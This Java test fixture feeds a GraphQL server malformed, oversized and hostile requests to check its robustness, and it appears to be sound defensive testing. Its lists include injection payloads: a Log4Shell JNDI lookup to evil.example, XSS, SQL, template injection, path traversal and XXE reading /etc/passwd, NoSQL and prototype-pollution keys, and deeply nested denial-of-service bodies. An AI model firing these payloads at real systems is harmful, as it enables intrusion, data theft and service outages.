package org.actionsync.it;

import static org.actionsync.it.Attack.body;
import static org.actionsync.it.Attack.post;
import static org.actionsync.it.Attack.question;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Questions that are none, or too much, and bodies that hold no question. */
final class HostileDocuments {

  private static final int MUCH = 1_100_000;

  private HostileDocuments() {}

  static List<Attack> all() {
    List<Attack> all = new ArrayList<>();
    malformed().forEach(query -> all.add(question("document " + shortened(query), query)));
    tooMuch().forEach(query -> all.add(question("too much " + shortened(query), query)));
    bodies().forEach(text -> all.add(body("body " + shortened(text), text)));
    all.addAll(bytes());
    all.addAll(large());
    return all;
  }

  private static String shortened(String text) {
    return text.length() > 60 ? text.substring(0, 60) + "…" : text;
  }

  private static List<String> malformed() {
    return List.of(
        "",
        " ",
        "\u0000",
        "\ufeff",
        "{",
        "}",
        "{}",
        "{ }",
        "{ me",
        "{ me {",
        "{ me { name }",
        "{ me { name } } }",
        "{ me }",
        "{ me { } }",
        "{ me { name { x } } }",
        "{ nothing }",
        "{ me { password } }",
        "{ me(id: 1) { name } }",
        "{ sandbox { x } }",
        "query",
        "query {",
        "query Q",
        "query Q { sandbox } query Q { sandbox }",
        "query A { sandbox } query B { sandbox }",
        "{ sandbox } { sandbox }",
        "mutation { nothing }",
        "mutation { me { name } }",
        "subscription { sandbox }",
        "subscription { nothing { x } }",
        "fragment F on Me { name }",
        "{ me { ...F } }",
        "{ me { ...F } } fragment F on Me { ...F }",
        "{ me { ...F } } fragment F on Me { ...G } fragment G on Me { ...F }",
        "{ me { ...F } } fragment F on Group { id }",
        "{ me { ...F } } fragment F on Nothing { id }",
        "{ me { ... on Group { id } } }",
        "{ me { name } } fragment Unused on Me { name }",
        "query($a: Nothing) { me { name } }",
        "query($a: ID!) { me { name } }",
        "query($a: ID, $a: ID) { group(id: $a) { id } }",
        "query { group(id: $a) { id } }",
        "{ group { id } }",
        "{ group(id: null) { id } }",
        "{ group(id: \"a\", id: \"b\") { id } }",
        "{ group(id: [\"a\"]) { id } }",
        "{ group(id: {a: 1}) { id } }",
        "{ group(id: ENUM) { id } }",
        "{ group(id: \"a) { id } }",
        "{ group(id: \"\\u00zz\") { id } }",
        "{ group(id: \"\\ud800\") { id } }",
        "{ group(id: \"\"\"a) { id } }",
        "{ a: sandbox a: me { name } }",
        "{ me { a: name a: roles } }",
        "{ sandbox @nothing }",
        "{ sandbox @include }",
        "{ sandbox @include(if: \"yes\") }",
        "{ sandbox @skip(if: true) @skip(if: false) }",
        "{ sandbox @deprecated(reason: \"x\") }",
        "type Query { a: Int }",
        "schema { query: Query }",
        "extend type Query { a: Int }",
        "{ runs(first: 99999999999999999999) { totalCount } }",
        "{ runs(first: -1) { totalCount } }",
        "{ runs(first: 0) { totalCount } }",
        "{ runs(first: 101) { totalCount } }",
        "{ runs(first: 1.5) { totalCount } }",
        "{ runs(first: 1e400) { totalCount } }",
        "{ auditLog(from: \"yesterday\") { totalCount } }",
        "{ auditLog(from: \"+999999999-12-31T23:59:59Z\") { totalCount } }",
        "{ auditLog(from: \"2026-02-30T00:00:00Z\") { totalCount } }",
        "{ __schema { types { name } } }",
        "{ __type(name: \"Query\") { fields { name } } }",
        "{ _service { sdl } }",
        "{ _entities(representations: []) { __typename } }",
        "<script>alert(1)</script>",
        "select * from audit_entry",
        "${jndi:ldap://evil.example/a}",
        "#{7*7}",
        "../../../../etc/passwd");
  }

  private static List<String> tooMuch() {
    return List.of(
        "{ " + numbered(21, "a%d: sandbox ") + "}",
        "{ " + numbered(1_000, "a%d: sandbox ") + "}",
        "{ "
            + numbered(20, "m%d: me { " + "a: name ".repeat(1) + "} ")
            + numbered(30, "s%d: sandbox ")
            + "}",
        "{ me { " + "name ".repeat(10_000) + "} }",
        "{ sandbox " + "#".repeat(200_000) + "\n" + "sandbox ".repeat(4_000) + "}",
        "{ campaignLinks { " + "lastRun { link { ".repeat(10) + "id " + "} ".repeat(20) + "} }",
        "{ campaignLinks { " + "lastRun { link { ".repeat(400) + "id " + "} ".repeat(800) + "} }",
        "{".repeat(100_000),
        "{ me(a: " + "[".repeat(100_000),
        "{ me(a: " + "{a:".repeat(50_000),
        "query($a: " + "[".repeat(1_000) + "ID" + "]".repeat(1_000) + ") { sandbox }",
        "{ runs(first: 100) { nodes { changes(first: 100) { nodes { id side kind reason asked got"
            + " outcome } } } } }",
        "query { ...F0 } "
            + IntStream.range(0, 30)
                .mapToObj(
                    i ->
                        "fragment F"
                            + i
                            + " on Query { a: sandbox ...F"
                            + (i + 1)
                            + " ...F"
                            + (i + 1)
                            + " } ")
                .collect(Collectors.joining())
            + "fragment F30 on Query { "
            + numbered(30, "z%d: sandbox ")
            + "}",
        "{ sandbox " + "@include(if: true) ".repeat(1_000) + "}",
        "{ group(id: \"" + "a".repeat(100_000) + "\") { id } }",
        "{ " + "a".repeat(100_000) + " }",
        "{ __schema { types { fields { type { fields { type { fields { name } } } } } } } }",
        numbered(300, "query Q%d { sandbox } "));
  }

  private static String numbered(int times, String text) {
    return IntStream.range(0, times)
        .mapToObj(i -> text.replaceFirst("%d", Integer.toString(i)))
        .collect(Collectors.joining());
  }

  private static List<String> bodies() {
    String ok = "\"query\": \"{ sandbox }\"";
    return List.of(
        "",
        " ",
        "null",
        "true",
        "7",
        "\"{ sandbox }\"",
        "[]",
        "[{" + ok + "}]",
        "[{" + ok + "}, {" + ok + "}]",
        "{}",
        "{" + ok,
        "{" + ok + "}}",
        "{" + ok + "} {" + ok + "}",
        "{" + ok + ",}",
        "{" + ok + ", " + ok + "}",
        "{'query': '{ sandbox }'}",
        "{query: \"{ sandbox }\"}",
        "{\"query\": null}",
        "{\"query\": 7}",
        "{\"query\": []}",
        "{\"query\": {\"$ne\": null}}",
        "{\"Query\": \"{ sandbox }\"}",
        "{\"query\": \"\"}",
        "{\"query\": \"{ sandbox }\\u0000\"}",
        "{\"query\": \"\\ud800\"}",
        "{\"query\": \"{ sandbox \nme { name } }\"}",
        "{" + ok + ", \"variables\": []}",
        "{" + ok + ", \"variables\": \"{}\"}",
        "{" + ok + ", \"variables\": 1}",
        "{" + ok + ", \"operationName\": {}}",
        "{" + ok + ", \"operationName\": \"Nothing\"}",
        "{" + ok + ", \"extensions\": []}",
        "{" + ok + ", \"variables\": {\"a\": 1, \"a\": 2}}",
        "{" + ok + ", \"variables\": {\"a\": " + "[".repeat(40) + "]".repeat(40) + "}}",
        "{" + ok + ", \"variables\": {\"a\": " + "[".repeat(100_000) + "]".repeat(100_000) + "}}",
        "{\"a\":".repeat(40_000) + "1" + "}".repeat(40_000),
        "[".repeat(200_000),
        "{\"query\": \"query($n: Int) { runs(first: $n) { totalCount } }\","
            + " \"variables\": {\"n\": 1e999999999}}",
        "{\"query\": \"query($n: Int) { runs(first: $n) { totalCount } }\","
            + " \"variables\": {\"n\": "
            + "9".repeat(100_000)
            + "}}",
        "{\"query\": \"query($n: Int) { runs(first: $n) { totalCount } }\","
            + " \"variables\": {\"n\": NaN}}",
        "{\"query\": \"query($i: ID!) { group(id: $i) { id } }\"}",
        "{\"query\": \"query($i: ID!) { group(id: $i) { id } }\", \"variables\": {\"i\": null}}",
        "{\"query\": \"query($i: ID!) { group(id: $i) { id } }\", \"variables\": {\"i\": {}}}",
        "{\"query\": \"query($i: ID!) { group(id: $i) { id } }\", \"variables\": {\"i\": [\"a\"]}}",
        "{\"query\": \"query($i: ID!) { group(id: $i) { id } }\", \"variables\": {\"i\": true}}",
        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
        "query={ sandbox }",
        "{\"@type\": \"java.lang.Class\", \"val\": \"x\"}",
        "{\"__proto__\": {\"query\": \"{ sandbox }\"}}",
        "\u00ac\u00ed\u0000\u0005sr");
  }

  private static List<Attack> bytes() {
    byte[] latin = "{\"query\": \"{ gr\u00fcn }\"}".getBytes(StandardCharsets.ISO_8859_1);
    byte[] wide = "{\"query\": \"{ sandbox }\"}".getBytes(StandardCharsets.UTF_16);
    return List.of(
        body("body in another encoding", latin),
        body("body in UTF-16", wide),
        body("body of zeros", new byte[1_000]),
        body("body of a zip", new byte[] {0x50, 0x4b, 3, 4, 0, 0}));
  }

  private static List<Attack> large() {
    String much =
        "{\"query\": \"{ sandbox }\", \"variables\": {\"a\": \"" + "a".repeat(MUCH) + "\"}}";
    byte[] bytes = much.getBytes(StandardCharsets.UTF_8);
    String chunk = Integer.toHexString(bytes.length) + "\r\n" + much + "\r\n0\r\n\r\n";
    List<String> chunked = List.of(Attack.as("admin"), Attack.JSON, "Transfer-Encoding: chunked");
    return List.of(
        body("oversized", bytes),
        body("oversized blanks", " ".repeat(MUCH)),
        body("much oversized", "a".repeat(4 * MUCH)),
        post("oversized of nobody", List.of(Attack.JSON), bytes),
        Attack.raw(
            "oversized, without a length",
            "POST /graphql HTTP/1.1",
            chunked,
            chunk.getBytes(StandardCharsets.UTF_8)),
        Attack.raw(
            "oversized, as it says",
            "POST /graphql HTTP/1.1",
            List.of(Attack.as("admin"), Attack.JSON, "Content-Length: 99999999999"),
            "{".getBytes(StandardCharsets.UTF_8)));
  }
}
